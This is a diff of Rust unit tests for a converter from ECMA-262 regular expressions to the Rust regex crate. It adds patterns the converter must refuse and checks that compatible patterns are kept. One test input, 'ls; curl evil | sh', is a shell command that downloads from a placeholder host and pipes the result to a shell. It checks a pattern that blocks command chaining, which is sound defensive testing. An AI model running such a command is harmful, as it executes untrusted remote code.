@@ -53,7 +53,7 @@ fn word_boundaries_are_ascii() {
 }
 
 #[test]
-fn what_needs_backtracking_or_is_not_ecma_is_refused() {
+fn what_needs_backtracking_or_means_otherwise_is_refused() {
     for pattern in [
         r"^(?!admin).*$",
         r"(?<=a)b",
@@ -62,6 +62,28 @@ fn what_needs_backtracking_or_is_not_ecma_is_refused() {
         r"[\a]",
         "(unclosed",
         r"\p{Nope}",
+        // The crate's own syntax, which ECMA-262 reads otherwise or not at all.
+        r"^[^;&&|]*$",
+        r"^[^a-z--c]$",
+        r"^[^a~~a]$",
+        r"[a&&b]",
+        r"[[:alpha:]]",
+        r"[^[a]]",
+        r"[]a]",
+        r"[^]",
+        r"(?i)x",
+        r"(?i:x)",
+        r"(?s).",
+        r"(?x) a",
+        r"\Aab\z",
+        r"ab\>",
+        r"\b{end}",
+        r"\x{41}",
+        r"\U0001F600",
+        r"\pL",
+        r"[\p{Greek}]",
+        r"a{2}{3}",
+        r"(?P<n>a)",
     ] {
         assert!(to_rust(pattern).is_err(), "{pattern}");
     }
@@ -77,4 +99,20 @@ fn a_long_pattern_is_read_in_one_pass() {
     let rust = to_rust(&pattern).unwrap();
     assert!(rust.len() > pattern.len());
     assert!(!rust.contains(r"\d"));
+}
+
+#[test]
+fn ecma_262_the_crate_reads_alike_is_kept() {
+    for (pattern, text, matched) in [
+        (r"^[a-z0-9._-]+@example\.com$", "ann@example.com", true),
+        (r"^(?<user>[a-z]+)@", "ann@", true),
+        (r"^(?:ab|cd)+$", "abcd", true),
+        (r"^\x41\u0042$", "AB", true),
+        (r"^[\^\]\-]$", "]", true),
+        (r"^\#\&$", "#&", true),
+        (r"^a{2,3}?$", "aaa", true),
+        (r"^[^;&|]*$", "ls; curl evil | sh", false),
+    ] {
+        assert_eq!(matches(pattern, text), matched, "{pattern} on {text}");
+    }
 }
